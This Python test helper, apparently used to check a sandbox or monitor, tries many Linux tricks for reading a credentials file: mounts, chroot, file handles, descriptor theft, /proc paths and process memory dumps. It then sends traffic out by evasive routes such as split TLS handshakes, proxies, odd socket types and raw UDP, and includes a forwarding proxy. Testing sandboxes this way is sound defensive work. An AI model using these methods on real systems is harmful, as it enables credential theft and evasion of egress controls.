# SPDX-License-Identifier: Apache-2.0
"""A thief: takes a key file by an unusual way, then sends something out by an unusual way. What it did is its exit
status: 0 done, 77 this kernel or machine does not offer the way (said on standard error).

  thief.py take WAY PATH [out WAY HOST [PORT]]…      WAY: a name of TAKES or OUTS
  thief.py proxy                                     forwards CONNECT and SOCKS5; prints its port
"""
import ctypes
import errno
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
FREE = "/srv/free"  # a folder of the case's disk with nothing in it
_BIND, _NEWNS, _PRIVATE = 4096, 0x20000, 16384 | 1 << 18
_OPEN_TREE, _PIDFD_OPEN, _PIDFD_GETFD = 428, 434, 438


def must(code):
    if code < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return code


def read(path):
    with open(path, "rb") as file:
        return file.read()


def read_fd(fd):
    data = os.read(fd, 65536)
    assert data, "nothing was read"
    return data


def mounted(source, target, kind=None, flags=_BIND, data=None):
    must(LIBC.unshare(_NEWNS))
    must(LIBC.mount(None, b"/", None, ctypes.c_ulong(_PRIVATE), None))
    encode = lambda text: None if text is None else os.fsencode(text)
    must(LIBC.mount(encode(source), encode(target), encode(kind), ctypes.c_ulong(flags), encode(data)))


# ---- takes

def by_bind_of_the_file(path):
    open(FREE + "/stuff", "w").close()
    mounted(path, FREE + "/stuff")
    read(FREE + "/stuff")


def by_bind_of_the_folder(path):
    mounted(os.path.dirname(path), FREE)
    read(FREE + "/" + os.path.basename(path))


def by_rebind_of_the_root(path):
    mounted("/", FREE, flags=_BIND | 16384)
    read(FREE + path)


def by_overlay(path):
    mounted("none", FREE, "tmpfs", 0)
    for name in ("up", "work", "merged"):
        os.mkdir(f"{FREE}/{name}")
    options = f"lowerdir={os.path.dirname(os.path.dirname(path))},upperdir={FREE}/up,workdir={FREE}/work"
    must(LIBC.mount(b"none", os.fsencode(FREE + "/merged"), b"overlay", ctypes.c_ulong(0), options.encode()))
    read(f"{FREE}/merged/.aws/credentials")


def by_detached_mount(path):
    tree = must(LIBC.syscall(_OPEN_TREE, -100, os.fsencode(os.path.dirname(path)), 1))
    read_fd(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=tree))


def by_detached_mount_of_the_file(path):
    tree = must(LIBC.syscall(_OPEN_TREE, -100, os.fsencode(path), 1))
    read(f"/proc/self/fd/{tree}")


def by_chroot(path):
    os.chroot(os.path.dirname(os.path.dirname(path)))
    os.chdir("/")
    read("/.aws/credentials")


def by_handle(path):
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
    handle, mount = Handle(128), ctypes.c_int()
    must(LIBC.name_to_handle_at(-100, os.fsencode(path), ctypes.byref(handle), ctypes.byref(mount), 0))
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    read_fd(must(LIBC.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)))


def by_map(path):
    import mmap
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as memory:
        assert memory[:1]


def by_memfd(path):
    """The kernel copies the file into memory without a name, from which another program reads it."""
    memory, file = os.memfd_create("x", 0), os.open(path, os.O_RDONLY)
    os.sendfile(memory, file, 0, 65536)
    os.close(file)
    read(f"/proc/self/fd/{memory}")


def by_splice(path):
    file, (out, into) = os.open(path, os.O_RDONLY), os.pipe()
    os.splice(file, into, 65536)
    read_fd(out)


def by_unlinked(path):
    file = os.open(path, os.O_RDONLY)
    os.unlink(path)
    read_fd(file)


def opener(path):
    """A child that opens the file and reads nothing; (its pid, its descriptor)."""
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(into, struct.pack("i", os.open(path, os.O_RDONLY)))
        time.sleep(1)
        os._exit(0)
    return child, struct.unpack("i", os.read(out, 4))[0]


def by_passed_descriptor(path):
    here, there = socket.socketpair()
    if os.fork() == 0:
        socket.send_fds(there, [b"x"], [os.open(path, os.O_RDONLY)])
        os._exit(0)
    read_fd(socket.recv_fds(here, 1, 1)[1][0])
    os.wait()


def by_taken_descriptor(path):
    child, number = opener(path)
    read_fd(must(LIBC.syscall(_PIDFD_GETFD, must(LIBC.syscall(_PIDFD_OPEN, child, 0)), number, 0)))


def by_descriptor_in_proc(path):
    child, number = opener(path)
    read(f"/proc/{child}/fd/{number}")


def by_given_descriptor(path):
    """Of a program that is started with the open file, which it reads without an open."""
    with open(path) as file:
        sys.exit(subprocess.run([sys.executable, "-I", __file__, "take", "stdin", path, *sys.argv[4:]],
                                stdin=file).returncode)


def by_temporary_file(path):
    """Another program writes it into a file that this one has made for that."""
    number, name = tempfile.mkstemp(dir=FREE)
    subprocess.run(["/usr/bin/cat", path], stdout=number, check=True)
    read(name)


def _links(make):
    def take(path):
        make(path, FREE + "/stuff")
        read(FREE + "/stuff")
    return take


def _environ(pid):
    assert read(f"/proc/{pid}/environ")


def _memory(pid):
    """All of another process's writable memory, as a dumper reads it."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(word, 16) for word in line.split()[0].split("-"))
            if "rw-p" in line and last - first < 1 << 20:
                memory.seek(first)
                memory.read(last - first)


TAKES = {"open": read, "symlink": _links(os.symlink), "hard_link": _links(os.link), "rename": _links(os.rename),
         "bind_file": by_bind_of_the_file, "bind_folder": by_bind_of_the_folder, "rebind_root": by_rebind_of_the_root,
         "overlay": by_overlay, "detached": by_detached_mount, "detached_file": by_detached_mount_of_the_file,
         "chroot": by_chroot, "handle": by_handle, "map": by_map, "memfd": by_memfd, "splice": by_splice,
         "unlinked": by_unlinked, "passed": by_passed_descriptor, "pidfd": by_taken_descriptor,
         "proc_fd": by_descriptor_in_proc, "proc_root": lambda path: read("/proc/self/root" + path),
         "path_only": lambda path: read(f"/proc/self/fd/{os.open(path, os.O_PATH)}"), "environ": _environ,
         "memory": _memory, "nothing": lambda _: None, "stdin": lambda _: read_fd(0),
         "descriptor": lambda _: read_fd(3), "given": by_given_descriptor, "fifo": read, "temporary": by_temporary_file}


# ---- outs

def context():
    made = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
    made.check_hostname = False
    return made


def talk(sock, name, cut=lambda data: [data], made=None):
    """One HTTPS request over a socket whose first bytes, the hello, are sent in the pieces that `cut` makes."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls, first = (made or context()).wrap_bio(into, out, server_hostname=name), [True]
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(5)

    def step(what, *args):
        while True:
            try:
                answer = what(*args)
            except ssl.SSLWantReadError:
                answer = None
            data = out.read()
            for piece in cut(data) if first[0] and data else [data] if data else []:
                sock.sendall(piece)
                time.sleep(0.003)
            first[0] = first[0] and not data
            if answer is not None or what == tls.do_handshake and tls.version():
                return answer
            into.write(sock.recv(65536))
    step(tls.do_handshake)
    step(tls.write, f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
    step(tls.read, 4096)
    sock.close()


def address(host, port):
    return socket.getaddrinfo(host, int(port), socket.AF_INET, socket.SOCK_STREAM)[0][4]


def connected(host, port):
    return socket.create_connection(address(host, port))


def pieces(size, head=0):
    return lambda data: [data[:head]] * (head > 0) + [data[at:at + size] for at in range(head, len(data), size)]


def records(data, size=60):
    """The same handshake message in TLS records of so many bytes, in one write."""
    body = data[5:]
    return [b"".join(data[:3] + struct.pack("!H", len(body[at:at + size])) + body[at:at + size]
                     for at in range(0, len(body), size))]


def out_big(host, port):
    made = context()
    made.set_alpn_protocols(["http/1.1", *(f"protocol-{number:05}" for number in range(500))])
    talk(connected(host, port), host, made=made)


def out_mapped(host, port):
    sock = socket.socket(socket.AF_INET6)
    sock.connect(("::ffff:" + address(host, port)[0], int(port)))
    talk(sock, host)


def out_multipath(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    sock.connect(address(host, port))
    talk(sock, host)


def out_fast_open(host, port):
    class Late:
        """Connects with the first bytes it sends."""
        def __init__(self):
            self.sock = socket.socket()

        def sendall(self, data):
            self.sock.settimeout(None)
            self.sock.sendto(data, socket.MSG_FASTOPEN, address(host, port))
            self.sendall = self.sock.sendall

        def __getattr__(self, name):
            return getattr(self.sock, name)
    talk(Late(), host)


def out_passed_socket(host, port):
    here, there = socket.socketpair()
    if os.fork() == 0:
        sock = connected(host, port)
        socket.send_fds(there, [b"x"], [sock.fileno()])
        os._exit(0)
    talk(socket.socket(fileno=socket.recv_fds(here, 1, 1)[1][0]), host)
    os.wait()


def out_connect(host, port):
    proxy = socket.create_connection(("198.18.0.1", int(port)))
    proxy.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces(5)(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode()):
        proxy.sendall(piece)
        time.sleep(0.002)
    assert b" 200 " in proxy.recv(4096)
    talk(proxy, host)


def out_socks(host, port):
    proxy = socket.create_connection(("198.18.0.1", int(port)))
    proxy.sendall(b"\5\1\0")
    assert proxy.recv(2) == b"\5\0"
    proxy.sendall(b"\5\1\0\3" + bytes([len(host)]) + host.encode() + b"\1\xbb")
    assert proxy.recv(10)[1] == 0
    talk(proxy, host)


def out_datagram(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(address(host, port))
    sock.send(b"\xc3\0\0\0\1" + os.urandom(1195))


def out_datagram_anywhere(host, port):
    """Without a connect."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"anything", (host, int(port)))


def out_datagram_of_six(host, port):
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.connect(("::ffff:" + host, int(port)))
    sock.send(b"anything")


def out_words(host, port):
    """Of no protocol."""
    with socket.create_connection((host, int(port))) as sock:
        sock.sendall(b"anything\n" * 9)


def out_socks4(host, port):
    proxy = socket.create_connection(("198.18.0.1", int(port)))
    proxy.sendall(b"\4\1\1\xbb\0\0\0\1me\0" + host.encode() + b"\0")
    assert proxy.recv(8)[1] == 90
    talk(proxy, host)


def out_eager(host, port):
    """Does not wait for the proxy's answer."""
    proxy = socket.create_connection(("198.18.0.1", int(port)))
    asked = [f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode()]
    first = lambda data: [asked.pop() + data] if asked else [data]

    class Answered:
        """Whose first answer is the proxy's."""
        def recv(self, size):
            self.recv = proxy.recv
            assert proxy.recv(len(b"HTTP/1.1 200 OK\r\n\r\n"))
            return proxy.recv(size)

        def __getattr__(self, name):
            return getattr(proxy, name)
    talk(Answered(), host, first)


def out_no_name(host, port):
    """To the address alone, which nobody of this process asked for: HOST is one."""
    talk(socket.create_connection((host, int(port))), None)


def out_claimed(host, port):
    """HOST is ADDRESS=NAME: greets an address by a name that nobody resolved."""
    where, _, name = host.partition("=")
    talk(socket.create_connection((where, int(port))), name)


OUTS = {"plain": lambda host, port: talk(connected(host, port), host),
        "first_byte": lambda host, port: talk(connected(host, port), host, pieces(65536, head=1)),
        "pieces": lambda host, port: talk(connected(host, port), host, pieces(48)),
        "records": lambda host, port: talk(connected(host, port), host, records),
        "big": out_big, "mapped": out_mapped, "multipath": out_multipath, "fast_open": out_fast_open,
        "passed_socket": out_passed_socket, "connect": out_connect, "socks": out_socks, "datagram": out_datagram,
        "no_name": out_no_name, "claimed": out_claimed, "datagram_anywhere": out_datagram_anywhere,
        "datagram_of_six": out_datagram_of_six, "words": out_words, "socks4": out_socks4, "eager": out_eager,
        "bytes": lambda host, port: talk(connected(host, port), host, pieces(1)),
        "last_record": lambda host, port: talk(connected(host, port), host, lambda data: records(data, 3))}


def proxy():
    server = socket.create_server(("0.0.0.0", 0))
    print('{"did": "listen", "port": %d}' % server.getsockname()[1], flush=True)

    def pump(one, other):
        try:
            while data := one.recv(65536):
                other.sendall(data)
        except OSError:
            pass
        other.close()

    def serve(client):
        head, early = client.recv(4096), b""
        if head[:1] == b"\4":
            host, answer = head[8:].split(b"\0")[1].decode(), b"\0\x5a" + bytes(6)
        elif head[:1] == b"\5":
            client.sendall(b"\5\0")
            asked = client.recv(4096)
            host, answer = asked[5:5 + asked[4]].decode(), b"\5\0\0\1\0\0\0\0\0\0"
        else:
            while b"\r\n\r\n" not in head:
                head += client.recv(4096)
            head, _, early = head.partition(b"\r\n\r\n")
            host, answer = head.split()[1].decode().partition(":")[0], b"HTTP/1.1 200 OK\r\n\r\n"
        far = connected(host, 443)
        far.sendall(early)
        client.sendall(answer)
        threading.Thread(target=pump, args=(far, client), daemon=True).start()
        pump(client, far)
    while True:
        threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()


def main(words):
    if words == ["proxy"]:
        proxy()
    while words:
        table, way, what, words = {"take": TAKES, "out": OUTS}[words[0]], words[1], words[2], words[3:]
        more = [words.pop(0) if words and words[0].isdigit() else "443"] if table is OUTS else []
        try:
            table[way](what, *more)
        except OSError as error:
            if error.errno in (errno.ENOSYS, errno.EPERM, errno.EOPNOTSUPP, errno.EPROTONOSUPPORT):
                print(f"{way}: {error}", file=sys.stderr)
                sys.exit(77)
            raise
    time.sleep(0.3)  # who ends within milliseconds of its read may be gone before its file is looked at


if __name__ == "__main__":
    main(sys.argv[1:])
